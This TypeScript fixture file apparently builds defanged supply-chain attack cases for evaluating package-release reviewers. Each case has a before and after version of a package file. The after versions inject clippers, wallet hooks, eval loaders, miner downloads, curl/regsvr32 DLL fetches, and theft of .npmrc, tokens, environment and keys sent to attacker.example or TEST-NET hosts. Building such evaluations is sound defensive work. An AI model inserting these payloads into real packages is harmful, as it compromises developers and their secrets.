/**
 * Defanged, metadata-clean attacks for the content evaluation (issue 14): each is a release by the same
 * account, old enough to pass a cooldown, with the same scripts and dependencies as the version before;
 * only the code differs. Hosts are `*.example`, addresses TEST-NET: nothing here reaches anything.
 */
import { escapedTableBlock, libraryModule, minified, stringArrayBlock } from './code.js';

export interface EvalCase {
  id: string;
  /** The public incident the case is modelled on. */
  incident: string;
  name: string;
  from: string;
  to: string;
  /** Registry fields both versions share (main, scripts, dependencies, bin). */
  manifest: Record<string, unknown>;
  before: Record<string, string>;
  after: Record<string, string>;
  /** The file a reviewer must be shown (paths relative to `package/`). */
  file: string;
}

const HOOKS =
  "if(typeof window!=='undefined'){const f=window.fetch;window.fetch=function(){return f.apply(this,arguments)};" +
  'XMLHttpRequest.prototype.open=function(){};if(window.ethereum){window.ethereum.request=function(){}}}';
const CLIPPER_WORDS = [
  'fetch',
  'XMLHttpRequest',
  'ethereum',
  'request',
  'open',
  'send',
  '1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx',
  'TB9emsCq6fQw6wRk4HBxxNnU6Hwt1DnV67',
];

function chalk(): EvalCase {
  const index = libraryModule('style', 30);
  return {
    id: 'chalk-clipper',
    incident: 'chalk/debug 2025: obfuscated crypto-clipper appended to a readable index.js',
    name: 'chalk',
    from: '5.6.0',
    to: '5.6.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': index },
    after: { 'index.js': `${index}${stringArrayBlock(CLIPPER_WORDS, HOOKS)}\n` },
    file: 'index.js',
  };
}

function debug(): EvalCase {
  const common = libraryModule('fmt', 24);
  const words = Array.from({ length: 6 }, () => CLIPPER_WORDS).flat();
  return {
    id: 'debug-clipper',
    incident: 'debug 4.4.2: the clipper in a module the entry point requires, escaped table, no _0x names',
    name: 'debug',
    from: '4.4.1',
    to: '4.4.2',
    manifest: { main: 'src/index.js' },
    before: { 'src/index.js': "module.exports = require('./common.js');\n", 'src/common.js': common },
    after: { 'src/index.js': "module.exports = require('./common.js');\n", 'src/common.js': `${common}${escapedTableBlock(words, HOOKS)}\n` },
    file: 'src/common.js',
  };
}

function base64Exec(): EvalCase {
  const server = libraryModule('route', 12, ['http']);
  const blob = Buffer.from("console.log('defanged payload');\n".repeat(60)).toString('base64');
  return {
    id: 'base64-exec-js',
    incident: 'LiteLLM 1.82.7 (JS variant): a base64 payload run when the proxy module loads',
    name: 'llm-proxy-kit',
    from: '1.82.6',
    to: '1.82.7',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/proxy/server.js');\n", 'lib/proxy/server.js': server },
    after: {
      'index.js': "module.exports = require('./lib/proxy/server.js');\n",
      'lib/proxy/server.js': `const _p = "${blob}";\neval(Buffer.from(_p, 'base64').toString('utf8'));\n${server}`,
    },
    file: 'lib/proxy/server.js',
  };
}

function pythonInNpm(): EvalCase {
  const helper = [
    'import os',
    'import sys',
    '',
    'def main(argv):',
    '    print(os.path.basename(argv[0]))',
    '',
    'if __name__ == "__main__":',
    '    main(sys.argv)',
    '',
  ].join('\n');
  const blob = Buffer.from('print("defanged payload")\n'.repeat(60)).toString('base64');
  return {
    id: 'base64-exec-py',
    incident: 'LiteLLM 1.82.7 (Python file shipped in an npm package): exec(base64) at import',
    name: 'pyright-helpers',
    from: '2.3.0',
    to: '2.3.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': libraryModule('py', 4), 'scripts/helper.py': helper },
    after: { 'index.js': libraryModule('py', 4), 'scripts/helper.py': `import base64\nexec(base64.b64decode("${blob}"))\n${helper}` },
    file: 'scripts/helper.py',
  };
}

function downloadRun(): EvalCase {
  const downloads = [
    "'use strict';",
    "const https = require('https');",
    "const fs = require('fs');",
    '',
    '/** Downloads a model file to `dest` (the URL comes from the caller). */',
    'function download(url, dest) {',
    '  return new Promise((resolve, reject) => {',
    '    https.get(url, (res) => res.pipe(fs.createWriteStream(dest)).on("finish", resolve)).on("error", reject);',
    '  });',
    '}',
    '',
    'module.exports = { download };',
    '',
  ].join('\n');
  const miner = [
    "const { spawn } = require('child_process');",
    'async function safeRun() {',
    "  await download('http://203.0.113.17/xmrig', '/tmp/.cache-x');",
    "  fs.chmodSync('/tmp/.cache-x', 0o755);",
    "  spawn('/tmp/.cache-x', ['-o', 'pool.attacker.example:3333'], { detached: true, stdio: 'ignore' }).unref();",
    '}',
    'safeRun().catch(() => {});',
    '',
  ].join('\n');
  return {
    id: 'download-and-run',
    incident: 'ultralytics 8.3.41: downloads a miner from a literal address and runs it',
    name: 'vision-utils',
    from: '8.3.40',
    to: '8.3.41',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./utils/downloads.js');\n", 'utils/downloads.js': downloads },
    after: { 'index.js': "module.exports = require('./utils/downloads.js');\n", 'utils/downloads.js': downloads + miner },
    file: 'utils/downloads.js',
  };
}

function solana(): EvalCase {
  const lib = [
    libraryModule('rpc', 10),
    'async function rpcRequest(url, body) {',
    '  return fetch(url, { method: "POST", body });',
    '}',
    'class Keypair {',
    '  constructor(secretKey) { this._secretKey = secretKey; }',
    '  static fromSecretKey(secretKey) {',
    '    const kp = new Keypair(secretKey);',
    '    return kp;',
    '  }',
    '}',
    'module.exports.Keypair = Keypair;',
    'module.exports.rpcRequest = rpcRequest;',
    '',
  ].join('\n');
  const evil = lib.replace(
    '    const kp = new Keypair(secretKey);',
    '    const kp = new Keypair(secretKey);\n    fetch("https://sol-rpc.attacker.example/api", { method: "POST", headers: { "x-amz-cf-id": Buffer.from(secretKey).toString("base64") } }).catch(() => {});',
  );
  return {
    id: 'solana-key-exfil',
    incident: '@solana/web3.js 1.95.6: the secret key sent from inside an existing function',
    name: '@solana/web3.js',
    from: '1.95.5',
    to: '1.95.6',
    manifest: { main: 'lib/index.cjs.js', browser: 'lib/index.browser.esm.js' },
    before: { 'lib/index.cjs.js': lib, 'lib/index.browser.esm.js': lib },
    after: { 'lib/index.cjs.js': lib, 'lib/index.browser.esm.js': evil },
    file: 'lib/index.browser.esm.js',
  };
}

function flatmap(): EvalCase {
  const min = minified(1, 200);
  const payload =
    '!function(){try{var r=require,t=process,c=r("crypto").createDecipher("aes256",t.env.npm_package_description),' +
    'd=c.update("0a1b2c3d4e5f","hex","utf8")+c.final("utf8"),i=new module.constructor;i.paths=module.paths,i._compile(d,""),i.exports}catch(e){}}();\n';
  return {
    id: 'flatmap-stream',
    incident: 'event-stream/flatmap-stream: an encrypted payload decrypted and compiled, in a minified file',
    name: 'flatmap-stream',
    from: '0.1.0',
    to: '0.1.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./index.min.js');\n", 'index.min.js': min },
    after: { 'index.js': "module.exports = require('./index.min.js');\n", 'index.min.js': min + payload },
    file: 'index.min.js',
  };
}

function shaiHulud(): EvalCase {
  const helper = "'use strict';\n// Prints where the package was installed.\nconsole.log('installed in', process.cwd());\n";
  const worm = minified(
    7,
    3000,
    'const h=require("os").homedir(),fs=require("fs");const n=fs.readFileSync(h+"/.npmrc","utf8");const g=process.env.GITHUB_TOKEN;' +
      'fs.mkdirSync(".github/workflows",{recursive:true});fs.writeFileSync(".github/workflows/shai-hulud-workflow.yml","on: push");' +
      'require("https").request({host:"webhook.attacker.example",method:"POST"}).end(n+g)',
  );
  return {
    id: 'shai-hulud',
    incident: "Shai-Hulud 2025: a worm bundle run by the package's existing postinstall target",
    name: 'ngx-toolkit',
    from: '3.4.1',
    to: '3.4.2',
    manifest: { main: 'index.js', scripts: { postinstall: 'node bundle.js' } },
    before: { 'index.js': libraryModule('ngx', 6), 'bundle.js': helper },
    after: { 'index.js': libraryModule('ngx', 6), 'bundle.js': worm },
    file: 'bundle.js',
  };
}

function nxTelemetry(): EvalCase {
  const telemetry = [
    "'use strict';",
    "const https = require('https');",
    "const os = require('os');",
    '// Anonymous usage: platform only, opt out with NX_NO_TELEMETRY.',
    'if (!process.env.NX_NO_TELEMETRY) {',
    "  const req = https.request({ host: 'telemetry.nx-tools.example', method: 'POST', path: '/v1' });",
    '  req.end(JSON.stringify({ platform: os.platform() }));',
    "  req.on('error', () => {});",
    '}',
    '',
  ].join('\n');
  const evil = telemetry.replace(
    '  req.end(JSON.stringify({ platform: os.platform() }));',
    [
      "  const fs = require('fs');",
      "  const found = ['.ssh/id_rsa', '.config/solana/id.json', 'wallet.dat', '.ethereum/keystore']",
      '    .map((p) => os.homedir() + "/" + p).filter((p) => fs.existsSync(p));',
      '  req.end(JSON.stringify({ platform: os.platform(), found }));',
    ].join('\n'),
  );
  return {
    id: 'nx-telemetry',
    incident: 'nx 2025: telemetry.js (an existing postinstall) now looks for wallets and ssh keys',
    name: 'nx',
    from: '21.4.1',
    to: '21.5.0',
    manifest: { main: 'index.js', scripts: { postinstall: 'node telemetry.js' } },
    before: { 'index.js': libraryModule('nx', 5), 'telemetry.js': telemetry },
    after: { 'index.js': libraryModule('nx', 5), 'telemetry.js': evil },
    file: 'telemetry.js',
  };
}

function eslintPrettier(): EvalCase {
  const install = ["'use strict';", "const os = require('os');", "if (os.platform() === 'win32') console.log('eslint-config: windows detected');", ''].join(
    '\n',
  );
  const evil = install.replace(
    "console.log('eslint-config: windows detected');",
    "require('child_process').spawn('rundll32', [__dirname + '/node-gyp.dll,main'], { detached: true, stdio: 'ignore' }).unref();",
  );
  return {
    id: 'eslint-config-install',
    incident: 'eslint-config-prettier 2025: the install.js an install script runs now launches a DLL',
    name: 'eslint-config-prettier',
    from: '10.1.5',
    to: '10.1.6',
    manifest: { main: 'index.js', scripts: { install: 'node install.js' } },
    before: { 'index.js': libraryModule('rule', 8), 'install.js': install },
    after: { 'index.js': libraryModule('rule', 8), 'install.js': evil },
    file: 'install.js',
  };
}

function uaParser(): EvalCase {
  const pre = [
    "'use strict';",
    '// Checks the Node version before install.',
    "if (+process.versions.node.split('.')[0] < 14) console.warn('ua-parser: old Node');",
    '',
  ].join('\n');
  const evil = [
    "'use strict';",
    "const { execSync } = require('child_process');",
    "const os = require('os');",
    "if (os.platform() === 'linux') execSync('sh ' + __dirname + '/preinstall.sh');",
    "else if (os.platform() === 'win32') execSync(__dirname + '\\\\preinstall.bat');",
    '',
  ].join('\n');
  return {
    id: 'ua-parser-preinstall',
    incident: 'ua-parser-js 2021: the preinstall launcher now runs per-platform scripts',
    name: 'ua-parser-js',
    from: '0.7.28',
    to: '0.7.29',
    manifest: { main: 'src/ua-parser.js', scripts: { preinstall: 'node preinstall.js' } },
    before: { 'src/ua-parser.js': libraryModule('ua', 12), 'preinstall.js': pre },
    after: {
      'src/ua-parser.js': libraryModule('ua', 12),
      'preinstall.js': evil,
      'preinstall.sh': '#!/bin/sh\ncurl -s http://198.51.100.24/jsextension -o /tmp/jsextension && chmod +x /tmp/jsextension && /tmp/jsextension -k\n',
      'preinstall.bat': '@echo off\ncurl http://198.51.100.24/sdd.dll -o %TEMP%\\sdd.dll\nregsvr32.exe -s %TEMP%\\sdd.dll\n',
    },
    file: 'preinstall.js',
  };
}

function batchLauncher(): EvalCase {
  const post = [
    "'use strict';",
    "const { execFileSync } = require('child_process');",
    "if (process.platform === 'win32') execFileSync('cmd.exe', ['/c', __dirname + '\\\\scripts\\\\setup.bat']);",
    '',
  ].join('\n');
  return {
    id: 'batch-launcher',
    incident: 'rc/coa 2021: a batch file an install step already ran now downloads and registers a DLL',
    name: 'coa',
    from: '2.0.2',
    to: '2.0.3',
    manifest: { main: 'index.js', scripts: { postinstall: 'node postinstall.js' } },
    before: { 'index.js': libraryModule('cli', 8), 'postinstall.js': post, 'scripts/setup.bat': '@echo off\necho coa: nothing to set up\n' },
    after: {
      'index.js': libraryModule('cli', 8),
      'postinstall.js': post,
      'scripts/setup.bat': '@echo off\ncurl https://198.51.100.23/sdd.dll -o %TEMP%\\sdd.dll\nregsvr32.exe -s %TEMP%\\sdd.dll\n',
    },
    file: 'scripts/setup.bat',
  };
}

function envWebhook(): EvalCase {
  const analytics = libraryModule('metric', 10, ['https']);
  const evil = `${analytics}setTimeout(() => { fetch('https://hooks.attacker.example/collect', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => {}); }, 1000);\n`;
  return {
    id: 'env-webhook',
    incident: 'the environment (CI secrets) posted to a webhook from a module the entry point loads',
    name: 'metrics-lite',
    from: '1.4.2',
    to: '1.4.3',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/analytics.js');\n", 'lib/analytics.js': analytics },
    after: { 'index.js': "module.exports = require('./lib/analytics.js');\n", 'lib/analytics.js': evil },
    file: 'lib/analytics.js',
  };
}

function npmrcStealer(): EvalCase {
  const config = libraryModule('cfg', 12, ['fs', 'path']);
  const evil = [
    config,
    "const home = require('os').homedir();",
    "try { const rc = fs.readFileSync(path.join(home, '.npmrc'), 'utf8'); require('http').request({ host: '192.0.2.10', method: 'POST' }).end(rc); } catch {}",
    '',
  ].join('\n');
  return {
    id: 'npmrc-stealer',
    incident: 'a .npmrc token stealer added to a config helper',
    name: 'rc-config-loader',
    from: '4.1.3',
    to: '4.1.4',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/config.js');\n", 'lib/config.js': config },
    after: { 'index.js': "module.exports = require('./lib/config.js');\n", 'lib/config.js': evil },
    file: 'lib/config.js',
  };
}

function workflowWriter(): EvalCase {
  const setup = libraryModule('setup', 10, ['fs']);
  const yaml = 'on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo "${{ toJSON(secrets) }}" > /dev/null\\n';
  const evil = `${setup}try { fs.mkdirSync('.github/workflows', { recursive: true }); fs.writeFileSync('.github/workflows/ci-helper.yml', "${yaml}"); } catch {}\n`;
  return {
    id: 'workflow-writer',
    incident: 'Shai-Hulud/s1ngularity: a GitHub workflow written into the repository that installs the package',
    name: 'repo-setup-tools',
    from: '2.2.0',
    to: '2.2.1',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/setup.js');\n", 'lib/setup.js': setup },
    after: { 'index.js': "module.exports = require('./lib/setup.js');\n", 'lib/setup.js': evil },
    file: 'lib/setup.js',
  };
}

function beacon(): EvalCase {
  const util = libraryModule('net', 10, ['os']);
  const evil = [
    util,
    'const tag = Buffer.from(os.hostname() + ":" + os.userInfo().username).toString("hex").slice(0, 60);',
    "require('dns').resolve(tag + '.b.attacker.example', () => {});",
    "const s = require('net').connect(4444, '203.0.113.50', () => s.end(tag)); s.on('error', () => {});",
    '',
  ].join('\n');
  return {
    id: 'dns-ip-beacon',
    incident: 'a DNS and IP-literal beacon carrying the host and user names',
    name: 'netutil-common',
    from: '0.9.4',
    to: '0.9.5',
    manifest: { main: 'index.js' },
    before: { 'index.js': "module.exports = require('./lib/util.js');\n", 'lib/util.js': util },
    after: { 'index.js': "module.exports = require('./lib/util.js');\n", 'lib/util.js': evil },
    file: 'lib/util.js',
  };
}

function minifiedObfuscated(): EvalCase {
  const bundle = minified(3, 400, 'var api=function(u){return fetch(u).then(function(r){return r.json()})};e.api=api');
  const block = stringArrayBlock(
    ['https://cdn-stats.attacker.example/c', 'cookie', 'localStorage', 'POST'],
    'setTimeout(function(){fetch(_0x2b7c(0),{method:_0x2b7c(3),body:document[_0x2b7c(1)]+JSON.stringify(window[_0x2b7c(2)])})},3e3);',
  );
  return {
    id: 'minified-string-array',
    incident: 'an obfuscated string-array payload inside a package that always shipped a minified bundle',
    name: 'tiny-charts',
    from: '3.9.1',
    to: '3.9.2',
    manifest: { main: 'dist/tiny-charts.min.js' },
    before: { 'dist/tiny-charts.min.js': bundle },
    after: { 'dist/tiny-charts.min.js': bundle.replace('}(this);', `;${block}}(this);`) },
    file: 'dist/tiny-charts.min.js',
  };
}

function esmWalletHook(): EvalCase {
  const esm = libraryModule('fmt', 16)
    .replace("'use strict';\n", '')
    .replace(/module\.exports = \{([^}]*)\};/, 'export {$1};');
  const hook = [
    'if (typeof window !== "undefined" && window.ethereum) {',
    '  const send = window.ethereum.request.bind(window.ethereum);',
    '  window.ethereum.request = (args) => { if (args && args.method === "eth_sendTransaction") args.params[0].to = "0x00000000000000000000000000000000000dEaD0"; return send(args); };',
    '}',
    '',
  ].join('\n');
  return {
    id: 'esm-wallet-hook',
    incident: 'a browser wallet hook rewriting transaction recipients, added to the ESM build only',
    name: 'color-string-utils',
    from: '1.9.1',
    to: '1.9.2',
    manifest: { main: 'index.cjs', module: 'index.mjs' },
    before: { 'index.cjs': libraryModule('fmt', 16), 'index.mjs': esm },
    after: { 'index.cjs': libraryModule('fmt', 16), 'index.mjs': esm + hook },
    file: 'index.mjs',
  };
}

/** Every attack case, in a stable order. */
export function attackCases(): EvalCase[] {
  return [
    chalk(),
    debug(),
    base64Exec(),
    pythonInNpm(),
    downloadRun(),
    solana(),
    flatmap(),
    shaiHulud(),
    nxTelemetry(),
    eslintPrettier(),
    uaParser(),
    batchLauncher(),
    envWebhook(),
    npmrcStealer(),
    workflowWriter(),
    beacon(),
    minifiedObfuscated(),
    esmWalletHook(),
  ];
}
